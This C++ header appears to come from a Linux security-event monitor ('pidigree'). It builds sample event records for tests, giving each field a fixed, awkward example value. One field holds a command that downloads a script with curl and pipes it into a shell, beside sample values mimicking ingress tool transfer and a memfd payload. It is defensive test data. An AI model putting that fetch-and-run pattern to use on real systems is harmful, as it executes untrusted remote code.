#pragma once

#include <string_view>
#include <vector>

#include "src/event/record.h"

namespace pidigree {

constexpr std::string_view kSampleComputer = "build-7.example.org";

// A record of `type` with a made-up value for each field, chosen by the field's name; the same
// every time. `values` holds what the record points to.
inline Record SampleRecord(const EventType& type, std::vector<Value>& values) {
  struct Sample {
    std::string_view field;
    Value value;
  };
  constexpr UtcTime kTime{1795453144'381'005'000};
  // Each says what its field looks like at its most awkward.
  static const Sample kSamples[] = {
      {"RuleName", "TechniqueID=T1105,TechniqueName=Ingress Tool Transfer"},
      {"UtcTime", kTime},
      {"ProcessGuid", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 123456, 18736)},
      {"SourceProcessGuid", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 123456, 18736)},
      {"SourceProcessGUID", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 123456, 18736)},
      {"TargetProcessGuid", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 99, 41)},
      {"TargetProcessGUID", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 99, 41)},
      {"ParentProcessGuid", Guid::Process(0x3d1219c7, 0xa1b2c3d4, 120000, 18001)},
      {"ProcessId", uint64_t{18736}},
      {"SourceProcessId", uint64_t{18736}},
      {"SourceThreadId", uint64_t{18739}},
      {"TargetProcessId", uint64_t{41}},
      {"NewThreadId", uint64_t{41}},
      {"ParentProcessId", uint64_t{18001}},
      {"Image", "/usr/bin/python3.11"},
      {"SourceImage", "/usr/bin/gdb"},
      {"TargetImage", "memfd:payload"},
      {"ImageLoaded", "/usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0"},
      {"ParentImage", "/usr/bin/dash"},
      {"CommandLine",
       "python3 -c print(\"<a> & 'b'\")\nexit()\r\t\\ \xc3\xa9\xe2\x82\xac\xf0\x9f\x90\x95"},
      {"ParentCommandLine", "sh -c curl -s 'https://example.org/?a=1&b=2' | sh"},
      {"CurrentDirectory", "/srv/a b"},
      {"User", "alice"},
      {"ParentUser", "root"},
      {"SourceUser", "alice"},
      {"TargetUser", "1005"},
      {"LogonGuid", Guid::Logon(0x3d1219c7, 0xa1b2c3d4, 7, 1000)},
      {"LogonId", uint64_t{1000}},
      {"TerminalSessionId", uint64_t{4294967295}},
      {"Session", uint64_t{2}},
      {"IntegrityLevel", "no level"},
      {"Hashes", "MD5=900150983cd24fb0d6963f7d28e17f72"},
      {"Hash", "MD5=900150983cd24fb0d6963f7d28e17f72"},
      {"TargetFilename", "/tmp/\xef\xbf\xbd/x\ny"},
      {"CreationUtcTime", UtcTime{1709164799'999'999'999}},
      {"PreviousCreationUtcTime", UtcTime{0}},
      {"Protocol", "tcp"},
      {"Initiated", true},
      {"SourceIsIpv6", false},
      {"SourceIp", "192.0.2.17"},
      {"SourcePort", uint64_t{50122}},
      {"DestinationIsIpv6", true},
      {"DestinationIp", "2001:db8::1"},
      {"DestinationPort", uint64_t{443}},
      {"DestinationPortName", "https"},
      {"State", "Started"},
      {"Version", "1.0"},
      {"SchemaVersion", "4.90"},
      {"Device", "/dev/nvme0n1p2"},
      {"GrantedAccess", uint64_t{0x1fffff}},
      {"EventType", "ConnectPipe"},
      {"PipeName", "@/org/example/socket"},
      {"Configuration", "/etc/pidigree/config.xml"},
      {"ConfigurationFileHash",
       "SHA256=2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"},
      {"QueryName", "example.org"},
      {"QueryStatus", "0"},
      {"QueryResults", "type:  5 www.example.org;::ffff:192.0.2.80;"},
      {"IsExecutable", true},
      {"Type", "memfd"},
      {"BpfCommand", "BPF_PROG_LOAD"},
      {"BpfProgramType", "KPROBE"},
      {"BpfProgramId", uint64_t{77}},
      {"BpfProgramName", "on_exec"},
      {"ID", "QUEUE_FULL"},
      {"Description", "12 events lost from 2026-11-23 16:59:01.000 to 2026-11-23 16:59:04.381"},
  };
  values.assign(type.fields.size(), {});
  for (size_t i = 0; i < values.size(); ++i) {
    for (const Sample& sample : kSamples)
      if (sample.field == type.fields[i].name) values[i] = sample.value;
  }
  return {&type, values, kTime, 2740, kSampleComputer};
}

}  // namespace pidigree
